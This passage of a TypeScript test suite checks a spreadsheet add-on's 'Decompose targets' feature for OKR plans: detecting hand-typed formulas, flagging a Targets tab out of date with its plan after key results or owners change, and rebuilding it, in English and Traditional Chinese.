    const last = weightRows.at(-1)!;
    tab.getRange(last, 7).setFormula('=2*1');
    run.emulator.resetCalls();
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(run.emulator.calls.byMethod['Range.getFormulas']).toBe(1);
    expect(tab.getRange(last, 7).getFormula()).toBe('=2*1');
    // A formula that shows nothing, beside the table, is found in it too.
    const after = tab.getLastColumn() + 1;
    tab.insertColumnsAfter(after - 1, 1);
    tab.getRange(3, after).setFormula('=IF(A2="zzz","x","")');
    run.emulator.resetCalls();
    const refused = run.run('decomposeTargets') as ActionResult;
    expect(refused.details).toEqual({ handTyped: [tab.getRange(3, after).getA1Notation()] });
    expect(run.emulator.calls.byMethod['Range.getFormulas']).toBe(1);
  });
});

describe('Decompose targets: the tab follows the plan after it, or says it is out of date', () => {
  /** A tab's rows by ID (target rows), and the plan's progress as of the tab's As of day. */
  function tabAndPlan(run: ReturnType<typeof loadAddon>, lang: Lang, timeZone: string) {
    const name = tabDef('targets').label[lang];
    const rows = valuesOf(run.ss, name);
    const header = rows[0] as unknown[];
    const asOf = dateToIso(run.ss.getRangeByName(TARGETS_AS_OF.name)!.getValue() as Date, timeZone)!;
    const { plan } = parsePlan(toWorkbook(run.ss) as Workbook, { timeZone });
    const row = (id: string) => rows.find((r) => r[0] === id && r !== rows[0])!;
    const at = (key: string) =>
      header.indexOf(TARGETS_SUMMARY_COLUMNS.find((c) => c.key === key)!.label[lang]);
    /** The months (yyyy-mm) the row fills. */
    const filled = (id: string) =>
      plan.period!.months.filter((m) => row(id)[plan.targets!.monthColumns[m] - 1] !== '');
    return { plan, progress: planProgress(plan, asOf), row, at, filled, header };
  }

  it("says a KPI re-pointed to another key result, or cleared, since Decompose, and Rebuild gives the plan's window and status", () => {
    const timeZone = 'America/Chicago';
    const run = loadAddon({ locale: 'en_US', timeZone });
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
    const kpis = run.ss.getSheetByName('KPIs')!;
    const months = (from: number, to: number) =>
      Array.from({ length: to - from + 1 }, (_, i) => `2026-${String(from + i).padStart(2, '0')}`);
    const targetsIssues = () =>
      (run.project.callFromClient('getPlanCheck') as PlanCheck).groups
        .flatMap((g) => g.issues)
        .filter((i) => i.sheet === 'Targets');
    // KPI1 tracks KR1 (March–August); typed "KR2 " (March–December: the plan trims it), then cleared (the whole period).
    for (const [keyResult, window] of [
      ['KR2 ', months(3, 12)],
      ['', months(1, 12)],
    ] as const) {
      kpis.getRange('D2').setValue(keyResult);
      // The tab still shows the old window: said, at a month the two disagree on, with Rebuild.
      const stale = targetsIssues().find((i) => i.code === 'targets-mismatch')!;
      expect(stale.message, keyResult).toMatch(
        /^The Targets tab shows (nothing|0\.05) for KPI1 in 2026-\d\d/,
      );
      expect(stale.quickFix?.kind).toBe('rebuild-targets');
      const fixed = run.project.callFromClient('applyQuickFix', {
        code: stale.code,
        sheet: stale.sheet,
        a1: stale.a1,
        label: stale.quickFix!.label,
      }) as QuickFixResult;
      expect(fixed.ok, fixed.message).toBe(true);
      const { progress, row, at, filled } = tabAndPlan(run, 'en', timeZone);
      expect(filled('KPI1'), keyResult).toEqual(window);
      compareWithShared(run, timeZone);
      const p = progress.kpis.find((k) => k.id === 'KPI1')!;
      expect(row('KPI1')[at('status')], keyResult).toBe(STATUS_LABELS[p.status].en);
      expect(targetsIssues(), keyResult).toEqual([]);
    }
  });

  it('shows a renamed key result; says an owner changed since (typed over, or a department renamed) and rebuilds it', () => {
    const lang = 'zh-TW';
    const timeZone = 'Asia/Taipei';
    const run = loadAddon({ locale: 'zh_TW', timeZone });
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
    const krName = tabDef('keyResults').label[lang];
    const krTab = run.ss.getSheetByName(krName)!;
    const krs = valuesOf(run.ss, krName);
    const column = (label: string) => (krs[0] as unknown[]).indexOf(label) + 1;
    const kr1 = krs.findIndex((r) => r[0] === 'KR1') + 1;
    const nameColumn = tabAndPlan(run, lang, timeZone).header.indexOf('名稱');
    const ownerColumn = tabAndPlan(run, lang, timeZone).header.indexOf('負責部門');
    const targetsIssues = () =>
      (run.project.callFromClient('getPlanCheck', lang) as PlanCheck).groups
        .flatMap((g) => g.issues)
        .filter((i) => i.sheet === tabDef('targets').label[lang]);
    const rebuild = (issue: PlanCheck['groups'][number]['issues'][number]) => {
      const fixed = run.project.callFromClient(
        'applyQuickFix',
        { code: issue.code, sheet: issue.sheet, a1: issue.a1, label: issue.quickFix!.label },
        lang,
      ) as QuickFixResult;
      expect(fixed.ok, fixed.message).toBe(true);
    };
    // The name is written at Decompose time: renamed since, it is said, and the rebuild shows the new one.
    const oldName = tabAndPlan(run, lang, timeZone).row('KR1')[nameColumn];
    krTab.getRange(kr1, column('關鍵結果')).setValue('上半年營收 100 萬美元');
    const [renamedKr] = targetsIssues();
    expect([renamedKr.code, renamedKr.message]).toEqual([
      'targets-text-mismatch',
      `「目標分解」表中 KR1 的「名稱」為「${String(oldName)}」，但按計畫應為「上半年營收 100 萬美元」。`,
    ]);
    rebuild(renamedKr);
    expect(tabAndPlan(run, lang, timeZone).row('KR1')[nameColumn]).toBe('上半年營收 100 萬美元');
    expect(targetsIssues()).toEqual([]);
    // The owner is the department as the plan names it, written at Decompose time: changed since, it is said.
    const before = tabAndPlan(run, lang, timeZone).row('KR1')[ownerColumn];
    const departments = valuesOf(run.ss, tabDef('departments').label[lang])
      .slice(1)
      .map((r) => r[0]);
    const other = departments.find((d) => d && d !== before) as string;
    krTab.getRange(kr1, column('負責部門')).setValue(other);
    const [stale] = targetsIssues();
    expect([stale.code, stale.a1, stale.message]).toEqual([
      'targets-text-mismatch',
      `D${tabAndPlan(run, lang, timeZone).plan.targets!.computed.KR1.row}`,
      `「目標分解」表中 KR1 的「負責部門」為「${String(before)}」，但按計畫應為「${other}」。`,
    ]);
    expect(stale.quickFix).toEqual({ kind: 'rebuild-targets', label: '重建「目標分解」，按今天評估' });
    rebuild(stale);
    expect(tabAndPlan(run, lang, timeZone).row('KR1')[ownerColumn]).toBe(other);
    expect(targetsIssues()).toEqual([]);
    // That department renamed, on the Departments tab and in every cell that names it: said for each of its rows.
    const renamed = `${other}部`;
    for (const sheet of run.ss.getSheets()) {
      if (sheet.getName() === tabDef('targets').label[lang] || sheet.getLastRow() === 0) continue;
      const range = sheet.getDataRange();
      const values = range.getValues();
      if (values.flat().includes(other))
        range.setValues(values.map((r) => r.map((v) => (v === other ? renamed : v))));
    }
    const said = targetsIssues();
    expect(said.length).toBeGreaterThan(0);
    expect(
      said.every((i) => i.code === 'targets-text-mismatch' && i.message.includes(`「${renamed}」`)),
    ).toBe(true);
    expect(said.map((i) => i.message)).toContain(
      `「目標分解」表中 KR1 的「負責部門」為「${other}」，但按計畫應為「${renamed}」。`,
    );
  });
});
